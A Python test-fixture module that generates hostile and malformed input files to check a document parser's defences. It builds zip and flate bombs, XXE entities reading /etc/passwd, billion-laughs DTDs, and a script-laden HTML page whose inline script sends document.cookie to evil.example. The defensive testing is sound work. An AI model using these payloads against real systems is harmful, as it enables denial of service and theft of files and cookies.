"""Hostile and broken input files, generated on the spot (cheaply: bombs are built from repeated deflate blocks)."""

from __future__ import annotations

import os
import random
import struct
import threading
import time
import zipfile
import zlib
from pathlib import Path

from fixtures_formats import make_docx, make_encrypted_pdf

MB = 1 << 20
POLICY = "一、总体要求\n（一）加快建设。推进口岸通关便利化。（省商务厅牵头，海关总署广东分署配合）\n二、保障措施\n加强组织领导。"
SECRET_SCRIPT = "var stolen = document.cookie; fetch('http://evil.example/' + stolen);"


# ---------------------------------------------------------------- zip packages

def _deflated_zeros(megabytes: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``megabytes`` MiB of zeros, and its CRC-32, built from one repeated block.

    After Z_FULL_FLUSH the compressor forgets its window, so every further MiB of zeros compresses to the same
    bytes: 1 GiB costs one block and a CRC loop, not a gigabyte of compression.
    """
    chunk = bytes(MB)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    return first + block * (megabytes - 1) + c.flush(), crc


def _write_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> Path:
    """Write a zip by hand: (name, stored bytes, method, crc, declared size) per member; sizes can lie."""
    out, central = bytearray(), bytearray()
    for name, data, method, crc, size in members:
        raw = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0)
        out += raw + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data), size,
                               len(raw), 0, 0, 0, 0, 0, offset) + raw
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


def _members_of(path: Path) -> list[tuple[str, bytes, int, int, int]]:
    with zipfile.ZipFile(path) as zf:
        out = []
        for info in zf.infolist():
            data = zf.read(info)
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            out.append((info.filename, c.compress(data) + c.flush(), 8, zlib.crc32(data), len(data)))
        return out


def _docx(path: Path) -> Path:
    return make_docx(POLICY, path)


def truncated_docx(folder: Path) -> Path:
    """A real .docx cut off half way (a download that stopped)."""
    path = _docx(folder / "truncated.docx")
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def zip_bomb_docx(folder: Path, megabytes: int = 1024) -> Path:
    """A ~1 MB .docx with a member of ``megabytes`` MiB of zeros (python-docx would load all of it)."""
    path = _docx(folder / "bomb.docx")
    data, crc = _deflated_zeros(megabytes)
    return _write_zip(path, _members_of(path) + [("word/media/image1.png", data, 8, crc, megabytes * MB)])


def lying_zip_docx(folder: Path, megabytes: int = 1024) -> Path:
    """A .docx whose word/document.xml claims 1 KB but inflates to ``megabytes`` MiB: sizes alone cannot see it."""
    path = _docx(folder / "lying.docx")
    data, _ = _deflated_zeros(megabytes)
    members = [m if m[0] != "word/document.xml" else (m[0], data, 8, 0, 1024) for m in _members_of(path)]
    return _write_zip(path, members)


def _with_document_xml(path: Path, prefix: bytes, entity: bytes) -> Path:
    """Rewrite word/document.xml with ``prefix`` (a DTD) before the root and ``entity`` inside the first w:t."""
    with zipfile.ZipFile(path) as zf:
        parts = {i.filename: zf.read(i) for i in zf.infolist()}
    xml = parts["word/document.xml"]
    head, sep, root = xml.partition(b"?>")
    root = root.replace(b"</w:t>", entity + b"</w:t>", 1)
    parts["word/document.xml"] = head + sep + b"\n" + prefix + root
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def xxe_docx(folder: Path, target: str = "/etc/passwd") -> Path:
    """document.xml declares an external entity reading ``target`` and uses it in the text."""
    path = _docx(folder / "xxe.docx")
    dtd = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{target}">]>'.encode()
    return _with_document_xml(path, dtd, b"&xxe;")


def billion_laughs_docx(folder: Path) -> Path:
    """document.xml with the classic nested entities: &lol9; expands to 10^9 'lol's."""
    path = _docx(folder / "laughs.docx")
    ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                                      for i in range(1, 10)]
    dtd = ("<!DOCTYPE w:document [" + "".join(ents) + "]>").encode()
    return _with_document_xml(path, dtd, b"&lol9;")


# ---------------------------------------------------------------- PDF

def _pdf(objects: list[bytes], root: int = 1, xref_shift: int = 0) -> bytes:
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for num, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % (off + xref_shift) for off in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _text_page_objects(content: bytes, filters: bytes = b"") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d %s>>\nstream\n" % (len(content), filters) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


_CONTENT = b"BT /F1 14 Tf 72 760 Td (1. Build the port. Lead: Commerce Department.) Tj ET"


def empty_pdf(folder: Path) -> Path:
    path = folder / "empty.pdf"
    path.write_bytes(b"")
    return path


def encrypted_pdf(folder: Path) -> Path:
    """RC4 standard security handler with a user password (see fixtures_formats.make_encrypted_pdf)."""
    return make_encrypted_pdf(folder / "encrypted.pdf", "secret")


def broken_xref_pdf(folder: Path) -> Path:
    """Every xref offset wrong and startxref pointing into the middle of an object; the objects are intact."""
    data = _pdf(_text_page_objects(_CONTENT), xref_shift=7)
    data = data.replace(b"startxref\n", b"startxref\n1").replace(b"xref\n0 ", b"xref\n9 ", 1)
    path = folder / "broken_xref.pdf"
    path.write_bytes(data)
    return path


def gutted_pdf(folder: Path) -> Path:
    """A PDF header and xref with the objects gone (truncated then padded with junk)."""
    data = _pdf(_text_page_objects(_CONTENT))
    path = folder / "gutted.pdf"
    path.write_bytes(data[:20] + random.Random(7).randbytes(300) + data[-60:])
    return path


def flate_bomb_pdf(folder: Path, megabytes: int = 1024) -> Path:
    """A one-page PDF whose content stream inflates to ``megabytes`` MiB of zeros (~1 MB on disk)."""
    raw, _ = _deflated_zeros(megabytes)
    # zlib wrapper: header, raw deflate, Adler-32 (of n zero bytes: A = 1, B = n mod 65521)
    stream = b"\x78\xda" + raw + struct.pack(">HH", megabytes * MB % 65521, 1)
    path = folder / "flate_bomb.pdf"
    path.write_bytes(_pdf(_text_page_objects(stream, b"/Filter /FlateDecode ")))
    return path


def many_pages_pdf(folder: Path, pages: int = 200_000) -> Path:
    """200,000 pages sharing one content stream: a few MB on disk."""
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
               b"<< /Length %d >>\nstream\n" % len(_CONTENT) + _CONTENT + b"\nendstream",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
            b"/Resources << /Font << /F1 4 0 R >> >> >>")
    path = folder / "many_pages.pdf"
    path.write_bytes(_pdf(objects + [page] * pages))
    return path


# ---------------------------------------------------------------- text and HTML

def big_txt(folder: Path, megabytes: int = 50) -> Path:
    """A 50 MB UTF-8 text file of repeated policy lines."""
    line = "（一）加快建设国际航运枢纽，推进口岸通关便利化。（省商务厅牵头，省交通运输厅配合）\n".encode()
    path = folder / "big.txt"
    with open(path, "wb") as fh:
        block = line * (MB // len(line) + 1)
        written = 0
        while written < megabytes * MB:
            fh.write(block)
            written += len(block)
    return path


def junk_txt(folder: Path) -> Path:
    """Random bytes (NULs included) under a .txt name."""
    path = folder / "junk.txt"
    path.write_bytes(random.Random(1).randbytes(64 * 1024))
    return path


def high_junk_txt(folder: Path) -> Path:
    """Random bytes 0x80–0xFF only (no NUL, so it looks like legacy-encoded text at first sight)."""
    rnd = random.Random(2)
    path = folder / "junk_high.txt"
    path.write_bytes(bytes(rnd.randrange(0x80, 0x100) for _ in range(64 * 1024)))
    return path


def script_html(folder: Path) -> Path:
    """A policy page with inline and external scripts, event handlers, a javascript: link and a remote image."""
    page = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>关于加快口岸建设的实施方案</title>
<script>{SECRET_SCRIPT}</script><script src="http://evil.example/x.js"></script>
<style>body {{ background: url(http://evil.example/bg.png) }}</style></head>
<body onload="{SECRET_SCRIPT}"><div class="content" id="zoom">
<h1>关于加快口岸建设的实施方案</h1>
<p>一、总体要求</p><p>（一）加快建设。推进口岸通关便利化。（省商务厅牵头，海关总署广东分署配合）</p>
<img src="http://evil.example/track.gif" onerror="{SECRET_SCRIPT}">
<p>二、保障措施</p><p>加强组织领导。<a href="javascript:{SECRET_SCRIPT}">详情</a></p>
<noscript><p>noscript-only text</p></noscript><script type="module">import("http://evil.example/m.js")</script>
</div></body></html>"""
    path = folder / "scripts.html"
    path.write_text(page, encoding="utf-8")
    return path


# ---------------------------------------------------------------- worker jobs (imported by the worker process)

def sleep_job(path: str):
    time.sleep(3600)


def allocate_job(path: str):
    return bytearray(8 << 30)  # 8 GiB: past any memory cap


def crash_job(path: str):
    os.abort()


def value_error_job(path: str):
    raise ValueError("a reader bug")


def unpicklable_job(path: str):
    return threading.Lock()  # a result that cannot be sent back


# ---------------------------------------------------------------- returned ledgers (.xlsx)

_EXT_LINK = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1">
<sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1">
<cell r="A1" t="str"><v>cached-from-remote</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>"""
_EXT_RELS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
 Target="http://evil.example/book.xlsx" TargetMode="External"/></Relationships>"""


def _rewrite_zip(path: Path, edit) -> Path:
    with zipfile.ZipFile(path) as zf:
        parts = {i.filename: zf.read(i) for i in zf.infolist()}
    edit(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def add_external_link(xlsx: Path) -> Path:
    """Give a workbook an external link to a remote book (as Excel writes for ='[1]Sheet1'!A1)."""
    def edit(parts):
        parts["xl/externalLinks/externalLink1.xml"] = _EXT_LINK
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = _EXT_RELS
        parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
            b"</sheets>", b'</sheets><externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships" r:id="rIdExt1"/></externalReferences>', 1)
        parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
            b"</Relationships>", b'<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    return _rewrite_zip(xlsx, edit)


def add_zip_bomb(xlsx: Path, megabytes: int = 1024) -> Path:
    data, crc = _deflated_zeros(megabytes)
    return _write_zip(xlsx, _members_of(xlsx) + [("xl/media/image1.png", data, 8, crc, megabytes * MB)])


def add_xxe(xlsx: Path, target: str = "/etc/passwd") -> Path:
    def edit(parts):  # openpyxl writes workbook.xml without an XML declaration: the DTD goes first
        dtd = f'<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file://{target}">]>'.encode()
        parts["xl/workbook.xml"] = dtd + parts["xl/workbook.xml"].replace(b"<workbookPr/>", b"<workbookPr/>&xxe;", 1)
    return _rewrite_zip(xlsx, edit)


# ---------------------------------------------------------------- workbooks as input (task tables, ledgers)

def _task_xlsx(path: Path) -> Path:
    import openpyxl
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "任务分工"
    ws.append(["序号", "重点任务", "牵头单位", "配合单位", "完成时限"])
    ws.append([1, "推进口岸通关便利化。", "省商务厅", "海关总署广东分署", "2025年底前"])
    ws.append([2, "加快建设国际航运枢纽。", "省交通运输厅", "省发展改革委", "2026年底前"])
    wb.save(path)
    return path


def _edit_sheet(path: Path, edit) -> Path:
    def parts_edit(parts):
        parts["xl/worksheets/sheet1.xml"] = edit(parts["xl/worksheets/sheet1.xml"])
    return _rewrite_zip(path, parts_edit)


def stray_cell_xlsx(folder: Path) -> Path:
    """A two-task table plus one stray cell at XFD1048576 (the dimension then claims 17 billion cells)."""
    path = _task_xlsx(folder / "stray_cell.xlsx")
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    return _edit_sheet(path, lambda xml: xml.replace(b"</sheetData>", far, 1)
                       .replace(b'<dimension ref="A1:E3"/>', b'<dimension ref="A1:XFD1048576"/>'))


def whole_column_merge_xlsx(folder: Path) -> Path:
    """The same table with merges over whole columns and a whole row (B1:B1048576, A5:XFD5, F1:XFD1048576)."""
    path = _task_xlsx(folder / "column_merge.xlsx")
    merges = (b'<mergeCells count="3"><mergeCell ref="B1:B1048576"/><mergeCell ref="A5:XFD5"/>'
              b'<mergeCell ref="F1:XFD1048576"/></mergeCells>')
    return _edit_sheet(path, lambda xml: xml.replace(b"</sheetData>", b"</sheetData>" + merges, 1))


def million_rows_xlsx(folder: Path, rows: int = 1_000_000) -> Path:
    """A task-table header over a million numbered rows (written as XML directly: openpyxl would take minutes)."""
    path = _task_xlsx(folder / "million_rows.xlsx")
    with zipfile.ZipFile(path) as zf:
        parts = {i.filename: zf.read(i) for i in zf.infolist()}
    xml = parts.pop("xl/worksheets/sheet1.xml")
    head, _, tail = xml.partition(b"<sheetData>")
    first, _, rest = tail.partition(b"</sheetData>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w") as out:
            out.write(head + b"<sheetData>" + first)
            batch = []
            for r in range(4, rows + 4):
                batch.append(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (r, r, r))
                if len(batch) == 10_000:
                    out.write(b"".join(batch))
                    batch.clear()
            out.write(b"".join(batch) + b"</sheetData>" + rest)
    return path


def ole_junk_xls(folder: Path) -> Path:
    """An OLE header followed by junk under a .xls name (a broken download)."""
    path = folder / "junk.xls"
    path.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + random.Random(3).randbytes(20_000))
    return path


def truncated_xlsx(folder: Path) -> Path:
    path = _task_xlsx(folder / "truncated.xlsx")
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def repeated_rows_ods(folder: Path) -> Path:
    """An OpenDocument sheet whose one data row says number-rows-repeated="1000000" (a 1 KB file)."""
    from fixtures_formats import make_ledger_ods
    path = make_ledger_ods(folder / "repeated.ods")
    with zipfile.ZipFile(path) as zf:
        parts = {i.filename: zf.read(i) for i in zf.infolist()}
    parts["content.xml"] = parts["content.xml"].replace(
        b"<table:table-row>", b'<table:table-row table:number-rows-repeated="1000000">', 1)
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", parts.pop("mimetype"), zipfile.ZIP_STORED)
        for name, data in parts.items():
            zf.writestr(name, data, zipfile.ZIP_DEFLATED)
    return path


def ruled_grid_pdf(folder: Path, lines: int = 400) -> Path:
    """One page ruled by ``lines`` horizontal and ``lines`` vertical strokes: a 160,000-slot "table"."""
    step = 500 / lines
    ops = [b"0.1 w"]
    for i in range(lines + 1):
        ops.append(b"50 %.2f m 550 %.2f l S" % (100 + i * step, 100 + i * step))
        ops.append(b"%.2f 100 m %.2f 600 l S" % (50 + i * step * 1.0, 50 + i * step * 1.0))
    content = b"\n".join(ops) + b"\n" + _CONTENT
    path = folder / "ruled_grid.pdf"
    path.write_bytes(_pdf(_text_page_objects(content)))
    return path
